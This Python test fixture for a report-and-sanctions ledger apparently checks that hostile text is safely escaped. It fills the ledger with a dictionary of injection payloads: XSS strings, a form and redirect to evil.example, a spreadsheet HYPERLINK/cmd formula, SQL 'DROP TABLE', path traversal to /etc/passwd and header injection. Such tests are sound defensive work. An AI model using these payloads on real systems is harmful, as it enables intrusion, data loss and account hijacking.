"""Words that would do harm on a page that lets them, and a ledger in which everything that can be words is
made of them, as a damaged or a foreign one might be.

Whatever they would put on a page carries the class `injected`; whatever they would run sets `injected` on the
window.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from sayso.ingest import Reject
from sayso.ledger import Ledger
from sayso.lists.listing import Address, Designation, Entry, Identifier, ListFile, Name, Relation
from sayso.reading.reading import (
    Attribution,
    Claim,
    Event,
    Mention,
    Object,
    Participant,
    Party,
    Place,
    ReaderVersion,
    Reading,
    Source,
    Span,
    Speaker,
    Time,
)
from sayso.report import Report
from sayso.run.cataloguing import catalogue
from sayso.run.weighing import weigh
from sayso.sanctions.screen import screen_parties

HOSTILE = {
    "script": "<script>window.injected=1</script>",
    "image": "<img src=/nowhere onerror=window.injected=2 class=injected>",
    "svg": "<svg class=injected onload=window.injected=3><a href=javascript:alert(3)>x</a></svg>",
    "ends": "</textarea></title></script></style></template></noscript></mark></p><b class=injected>x",
    "attribute": "\" class=\"injected\" onfocus=\"window.injected=4\" autofocus x=\"",
    "apostrophe": "' class='injected' onfocus='window.injected=5' autofocus x='",
    "bare": "x class=injected onfocus=window.injected=6 autofocus",
    "javascript": "javascript:window.injected=7",
    "data": "data:text/html,<script>window.injected=8</script>",
    "web": "https://evil.example/\"><b class=injected>?a=1&lt;&quot;",
    "template": "{{7*7}} {% for x in ().__class__.__mro__ %}{{x}} ${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "comment": "<!--><b class=injected>--><![CDATA[<b class=injected>]]><?php echo 7*7 ?>",
    "frame": "<iframe class=injected srcdoc='<script>parent.injected=9</script>'></iframe>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "form": "<form class=injected action=//evil.example/><input name=words><button autofocus>x</form>",
    "htmx": "<div class=injected hx-get=/logout hx-trigger=load hx-on::load=alert(10) data-hx-get=/logout>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/><p style=color:red>",
    "entities": "&lt;b class=injected&gt;&#60;b class=injected&#62;\\u003cb class=injected&notit;",
    "json": "\",\"x\":1}]}</script><b class=injected>\\\"\\",
    "bidi": "a\u202egnp.exe\u2066b\u200b\ufeff\U000e0041\u061c",
    "terminal": "x\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\x08",
    "lines": "one\u2028two\u2029three\x85four\x0bfive\x0csix\r\nSet-Cookie: injected=1\ttab",
    "marks": "Z" + "\u0301\u0322\u20dd" * 60 + " 👩‍👩‍👧‍👦 🇪🇺 \ufffd \U0010fffd ﷽ 中国 العربية",
    "nested": "<b class=injected><i>" * 30,
    "path": "../../../../etc/passwd%00/..%2f..%2f\\..\\C:\\x",
    "formula": '=HYPERLINK("http://evil.example","x")|cmd\'/C calc\'!A0',
    "sql": "'; DROP TABLE reports; -- \" OR 1=1 NEAR( * ^ : - (",
}  # fmt: skip
LONG = "x" * 1_000_000
DEEP = "<b class=injected><i>" * 10_000
READER = ReaderVersion("0.0", "e" * 64)
TYPES = ("ASSAULT", "ACCUSE", "AID", "CONSULT")


def hostile_report(words: str, number: int) -> Reading:
    """Give a report whose every word is hostile, with two stances to one event."""
    pieces = [
        words, " struck ", words, " with ", words, " in ", words, " on ", words, ", ", words, " said.\n“",
        words, "” ", words, " denied.",
    ]  # fmt: skip
    text = "".join(pieces)
    ends = [len("".join(pieces[: place + 1])) for place in range(len(pieces))]
    spans: list[Span] = [(end - len(piece), end) for piece, end in zip(pieces, ends, strict=True)]
    assert text == "".join(text[slice(*span)] for span in spans)
    party = f"{words[:60]} {number}"
    names: dict[str, Any] = {"actor": party, "name": words, "country": words, "sector": words}
    report = Report(
        text, external_id=f"{words} {number}", path=words, url=words, title=words, outlet=words,
        authors=(words,), published=f"2025-03-{number % 28 + 1:02}", language="en",
    )  # fmt: skip
    event = Event(
        type=TYPES[number % len(TYPES)],
        trigger=(spans[1][0] + 1, spans[1][1] - 1),
        contexts=("military",),
        actors=(Participant(spans[0], words, **names),),
        recipients=(Participant(spans[2], words, f"{party} (other)", words, words, words),),
        objects=(Object(spans[4], words, words, words, 7.0, words, words, words),),
        places=(Place(spans[6], words, words, 1.0, 1.0),),
        time=Time(spans[8], words, "2025-03-01", "2025-03-02"),
    )
    sources = Source(spans[10], words, party, words, words), Source(spans[14], words, party, words, words)
    sure = {"event": 0.9, "actors": 0.5, "recipients": 0.5, "stance": 0.9, "sources": 0.9}
    claims = tuple(
        Claim(f"{words[:100]} {stance} {number}", event, (source,), cue, stance, True, (0, len(text)), sure)
        for stance, source, cue in (
            ("affirms", sources[0], (spans[11][0] + 1, spans[11][1] - 3)),
            ("denies", sources[1], (spans[15][0] + 1, spans[15][1] - 1)),
        )
    )
    mention = Mention(spans[0], words, "organisation", party, 0.5)
    said = Attribution(
        (spans[14],), ((spans[15][0] + 1, spans[15][1] - 1),), (spans[12],), Speaker(words, party)
    )
    known = (
        Party(party, words, "organisation", ("XD",), (words,), about=words),
        Party(f"{party} (other)", words, "outlet", ("XC",), (words,), control=words),
    )
    return Reading(report, READER, (mention,), (said,), claims, known)


def hostile_list(words: str, number: int) -> Entry:
    """Give an entry whose every word is hostile."""
    return Entry(
        f"evil:{number} {words[:60]}", "evil", f"{number} {words[:60]}", "organisation",
        (Name(words), Name(f"{words} II", "alias", True, words)),
        (Designation("UN", words, words, (words,), True, "2020-01-31", reasons=words, url=words),),
        identifiers=(Identifier(words, words, words, words),),
        addresses=(Address(words, words),),
        details=((words, words),),
        relations=(Relation("ownership", words, share=(51.0, 51.0), source=words),),
    )  # fmt: skip


def fill(where: Path) -> None:
    """Make the ledger: reports, rejects, a list, watches, decisions and reviews; weighed, screened and
    catalogued.
    """
    with Ledger(where) as ledger:
        run = ledger.begin_run(READER, HOSTILE["script"])
        for number, words in enumerate(HOSTILE.values()):
            assert ledger.append(hostile_report(words, number), run)
            ledger.append_reject(Reject(words, words, words, words), run)
        ledger.append(Reading(Report(f"{LONG} {HOSTILE['image']}", title=LONG, outlet="Long"), READER), run)
        ledger.append(Reading(Report(DEEP, title=DEEP[:5000], outlet="Deep"), READER), run)
        ledger.end_run(run, read=len(HOSTILE) + 2, unchanged=0, rejected=len(HOSTILE))
        entries = tuple(hostile_list(words, number) for number, words in enumerate(HOSTILE.values()))
        ledger.lists.add(ListFile("evil", HOSTILE["image"], "test", entries, published="2025-03-31"))
        weigh(ledger, workers=1)
        for words in HOSTILE.values():
            ledger.weighings.watch(words, party=words)
        found = ledger.weighings.matters()
        ledger.weighings.join([found[0].matter, found[1].matter], HOSTILE["image"], HOSTILE["svg"])
        for number, reading in enumerate(list(ledger.readings())[:5]):
            ledger.reviews.accept(reading.report.id, 1, HOSTILE["image"], list(HOSTILE.values())[number])
        weigh(ledger, workers=1)
        screen_parties(ledger)
        catalogue(ledger)
